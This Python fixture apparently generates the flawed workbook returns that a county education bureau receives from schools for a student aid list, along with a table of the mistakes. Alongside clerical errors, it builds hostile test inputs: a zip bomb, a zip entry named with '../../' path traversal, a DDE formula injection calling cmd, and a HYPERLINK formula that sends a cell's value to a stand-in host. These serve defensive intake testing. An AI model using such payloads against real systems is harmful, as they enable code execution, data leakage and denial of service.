"""What comes back to the bureau: the 60 schools' workbooks, some of them wrong in every way there is.

Each way is a function from a school's filled form to the files that arrive, beside what a clerk sees
of it. `mistakes.md` is written from the same table.
"""

import zipfile

from books import FIRST_ROW, as_wps, old_workbook, pack
from county import COUNTY, pupils

ON_TIME = "2026-10-12T08:30:00Z"
LATER = "2026-10-15T02:10:00Z"
MENDED = "2026-10-22T01:30:00Z"


class Return:
    """One school's list on its way to the bureau."""

    def __init__(self, school, form):
        self.school, self.form, self.records = school, form, pupils(school)

    @property
    def filled(self):
        return self.form().fill(self.records)

    def named(self, suffix="", ending="xlsx"):
        return f"{self.school.code}_{self.school.name}{suffix}.{ending}"


def mail(name, content):
    return {f"邮箱/{name}": content}


def right(it):
    return mail(it.named(), it.filled.save(ON_TIME))


def renamed(it):
    return mail("新建 Microsoft Excel 工作表 (2).xlsx", it.filled.save(ON_TIME))


def by_wps(it):
    return {"微信/" + it.named("(WPS)"): as_wps(it.filled.save(ON_TIME))}


def two_versions(it):
    early = it.form().fill(it.records[:-1]).save(ON_TIME)
    return {**mail(it.named("(第一次)"), early), **mail(it.named("(改)"), it.filled.save(LATER))}


def two_at_once(it):
    short = it.form().fill(it.records[:-2]).save(ON_TIME)
    return {**mail(it.named(), it.filled.save(ON_TIME)), **mail(it.named("(1)"), short)}


def same_twice(it):
    file = it.filled.save(ON_TIME)
    return {**mail(it.named(), file), "微信/" + it.named("-副本"): file}


def other_kind(it):
    form = it.filled
    form.edit("docProps/custom.xml", "aid.recognition", "aid.grants")
    form.edit(form.guide, "公示种类:aid.recognition", "公示种类:aid.grants")
    return mail(it.named("资助名单"), form.save(ON_TIME))


def last_year(it):
    form = it.filled.mark("报送编号", "C-2025-0001")
    form.edit("docProps/custom.xml", r'(name="gongshi.round"[^>]*><vt:lpwstr>)[^<]*', r"\g<1>C-2025-0001")
    return mail(it.named("(去年的表)"), form.save(ON_TIME))


def empty(it):
    return mail(it.named(), it.form().save(ON_TIME))


def nil(it):
    return mail(it.named("零报送"), it.form().mark("本期无此项(零报送)", "是").save(ON_TIME))


def zipped_twice(it):
    inner = pack({it.named(): it.filled.save(ON_TIME)})
    return {"优盘/西坪镇打包.zip": pack({"西坪镇/" + it.named("", "zip"): inner})}


def odd_name(it):
    return {f"微信/🏫{it.school.name}·2026　秋季（最终版）。。.xlsx": it.filled.save(ON_TIME)}


def missing(it):
    return {}


def changed(*changes):
    """Some cells of some rows, by the place of the row in the list, from 0."""
    def way(it):
        form = it.filled
        for place, header, value in changes:
            form.write(FIRST_ROW + place, form.columns[header], value(it) if callable(value) else value)
        return mail(it.named(), form.save(ON_TIME))
    return way


def wrong_check_digit(it):
    number = it.records[2]["身份证号"]
    return number[:-1] + ("2" if number[-1] == "1" else "1")


def repeated(it):
    form = it.form().fill(it.records + [it.records[0]])
    return mail(it.named(), form.save(ON_TIME))


def shifted(it):
    """The header one row lower, and a column of numbers in front of it."""
    form = it.filled
    rows = {number + 1: [number - FIRST_ROW + 1] + row for number, row in form.rows.items()}
    headers = sorted(form.columns, key=form.columns.get)
    rows[FIRST_ROW] = ["序号"] + headers
    form.rows = rows
    form.edit("xl/worksheets/sheet1.xml", r'<row r="[34]".*?</row>', "", count=2)
    form.edit("xl/worksheets/sheet1.xml", "<dataValidations.*?</dataValidations>", "")
    return mail(it.named(), form.save(ON_TIME))


def other_code(it):
    return mail(it.named(), it.filled.mark("学校标识码", "3307992004").save(ON_TIME))


def old_format(it):
    return mail(it.named("", "xls"), old_workbook())


def gbk_csv(it):
    headers = ["姓名", "学籍号", "身份证号", "学校", "年级", "班级", "认定档次", "困难类型"]
    lines = [",".join(headers)]
    lines += [",".join(row.get(header) or "" for header in headers) for row in it.records]
    return {"微信/" + it.named("", "csv"): ("\r\n".join(lines) + "\r\n").encode("gbk")}


def damaged(it):
    file = it.filled.save(ON_TIME)
    return mail(it.named(), file[:len(file) * 2 // 3])


def bomb(it):
    """400 MB of blanks in a few hundred KB, twice packed, beside the real list in a second zip."""
    blanks = pack({"说明.xlsx": bytes(400 << 20)})
    real = pack({it.named(): it.filled.save(ON_TIME)})
    return {"优盘/" + it.named("(压缩)", "zip"): pack({"说明.zip": blanks}, method=zipfile.ZIP_STORED),
            "优盘/" + it.named("", "zip"): real}


def injected(it):
    form = it.filled
    form.write(FIRST_ROW, form.columns["家庭住址"], ('=HYPERLINK("http://example.invalid/?"&C5,"点这里")', "点这里"))
    form.write(FIRST_ROW + 1, form.columns["困难类型"], "=cmd|' /C calc'!A0")
    return mail(it.named(), form.save(ON_TIME))


def hidden_row(it):
    return mail(it.named(), it.filled.hide(FIRST_ROW + 3).save(ON_TIME))


def photo(it):
    return {"微信/" + it.named("拍照"): b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(2000)}


def climbing(it):
    return {"优盘/东岭乡.zip": pack({"../../" + it.named(): it.filled.save(ON_TIME)})}


# School, way, the mistake in a clerk's words, what the bureau sees of it.
WAYS = [
    ("第一小学", renamed, "文件改了名,看不出是哪所学校", "已收"),
    ("第二小学", by_wps, "用 WPS 另存,文件属性没有了", "已收"),
    ("第三小学", two_versions, "报了两次,第二次多一名学生", "已收,取保存时间晚的"),
    ("南湖小学", two_at_once, "两份不同的表,保存时间一样", "两份待定"),
    ("新希望学校", same_twice, "同一个文件发了两遍", "已收,只算一份"),
    ("外国语学校", other_kind, "填成了资助名单的表", "认不出(错表)"),
    ("石桥学校", last_year, "用了去年的表", "认不出(错表)"),
    ("小太阳幼儿园", empty, "空表,也没有选零报送", "退回待改"),
    ("少年宫附设学校", nil, "零报送", "零报送"),
    ("西坪镇中心小学", zipped_twice, "压缩包里还有压缩包", "已收"),
    ("柳河镇第二小学", odd_name, "文件名里有表情、间隔号、全角空格和连着的句号", "已收"),
    ("青山乡教学点", missing, "没有报", "未报"),
    ("金色童年幼儿园", missing, "没有报", "未报"),
    ("白石镇中心小学", changed((2, "身份证号", wrong_check_digit), (2, "学籍号", None)),
     "第 7 行身份证号最后一位抄错,校验位不对", "退回待改"),
    ("白石镇初级中学", repeated, "一名学生报了两次", "退回待改"),
    ("东岭乡中心小学", changed((0, "身份证号", 330100201901010000), (0, "学籍号", None)),
     "第 5 行身份证号存成了数字,后几位变成 0", "退回待改"),
    ("柳河镇初级中学", changed((1, "认定档次", "特困"), (3, "认定档次", "2")),
     "第 6、8 行档次不是三种说法", "退回待改"),
    ("柳河镇中心小学", changed((4, "姓名", None), (5, "年级", None)), "第 9 行没有姓名,第 10 行没有年级", "退回待改"),
    ("第一初级中学", shifted, "表头下移了一行,前面加了一列序号", "已收有说明"),
    ("第二初级中学", other_code, "把填表说明里的学校标识码改成了实验小学的", "未报,文件认不出"),
    ("育才学校", old_format, "旧格式 .xls", "未报,文件认不出"),
    ("信息工程学校", gbk_csv, "从系统导出的 GBK 编码 CSV", "已收"),
    ("特殊教育学校", damaged, "文件传了一半,坏了", "未报,文件认不出"),
    ("第十八中学", bomb, "两个压缩包,一个是解开有 400 MB 的空白", "已收,另一个压缩包不读"),
    ("职业技术学校", injected, "家庭住址是带链接的公式,困难类型里写着“=cmd”", "退回待改"),
    ("石桥镇初级中学", hidden_row, "第 8 行筛选后隐藏", "已收有说明"),
    ("西坪镇初级中学", photo, "拍了照片,改名成 .xlsx", "未报,文件认不出"),
    ("东岭乡完全小学", climbing, "压缩包里的文件名带“../../”", "未报,不读也不写到别处"),
]


def share_pupils(by_name):
    """One child in two schools' lists, three times: a transfer, a grave mistake, a number copied."""
    def at(name):
        return by_name[COUNTY + name]
    moved = at("青山乡中心小学").records[0]
    at("实验小学").records.append({**moved, "学校": COUNTY + "实验小学", "班级": "3班"})
    copied = at("石桥镇中心小学").records[1]
    at("石桥镇第二小学").records.append({
        **copied, "姓名": "欧阳若溪", "学校": COUNTY + "石桥镇第二小学", "学籍号": None})
    older = at("第一中学").records[4]
    at("第二中学").records.append({**older, "学校": COUNTY + "第二中学"})


SHARED = [
    ("实验小学、青山乡中心小学", "同一名学生两校都认定(学期中转学)", "CROSS-001"),
    ("第一中学、第二中学", "同一名学生两校都认定", "CROSS-001"),
    ("石桥镇中心小学、石桥镇第二小学", "号码相同,姓名不同(抄错了号码)", "CROSS-004"),
]


def returned_files(schools, form_of):
    """What came back, by path; `form_of` makes the blank form of a school anew."""
    returns = {school.name: Return(school, lambda code=school.code: form_of(code)) for school in schools}
    share_pupils(returns)
    ways = {COUNTY + name: way for name, way, _, _ in WAYS}
    files = {}
    for name, it in returns.items():
        files.update(ways.get(name, right)(it))
    # What lies about in every folder.
    files["邮箱/Thumbs.db"] = b"\xd0\xcf\x11\xe0" + bytes(500)
    files["邮箱/~$新建 Microsoft Excel 工作表 (2).xlsx"] = bytes(165)
    files["微信/各位老师请看.txt"] = "请各校 20 日前报送\n".encode()
    return files


def wrong_states(collected):
    """Where the first collection says something else of a school than WAYS does, a line each."""
    ways = {COUNTY + name: state.split(",")[0].split("(")[0] for name, _, _, state in WAYS}
    return [
        f"{school['name']}:{school['state']}, 应当是 {ways.get(school['name'], '已收')}"
        for school in collected["schools"] if school["state"] != ways.get(school["name"], "已收")
    ]


def mended_files(schools, form_of):
    """What comes after the bureau has sent each school its errors: one sound workbook each."""
    returns = {school.name: Return(school, lambda code=school.code: form_of(code)) for school in schools}
    share_pupils(returns)
    # One school does not answer: somebody is still to be called.
    again = [
        COUNTY + name for name, way, _, state in WAYS
        if not state.startswith(("已收", "零报送")) and way is not climbing
    ]
    return {
        f"补报/{returns[name].named()}": returns[name].filled.save(MENDED) for name in again
    }


def mistakes_page():
    lines = [
        "# 收到的表里的错误", "", "60 所学校里这些不是照规矩报的,其余照规矩报。", "",
        "| 学校 | 怎样错 | 报送情况 |", "|---|---|---|",
    ]
    lines += [f"| {COUNTY}{name} | {words} | {state} |" for name, _, words, state in WAYS]
    lines += ["", "报来的名单之间,单看一所学校看不出的:", "", "| 学校 | 什么情况 | 规则 |", "|---|---|---|"]
    lines += [f"| {names} | {words} | {rule} |" for names, words, rule in SHARED]
    lines += ["", "文件夹里还有 Thumbs.db、打开表格时的临时文件(~$ 开头)和一个文本文件,都不是报送的表。", ""]
    return "\n".join(lines)
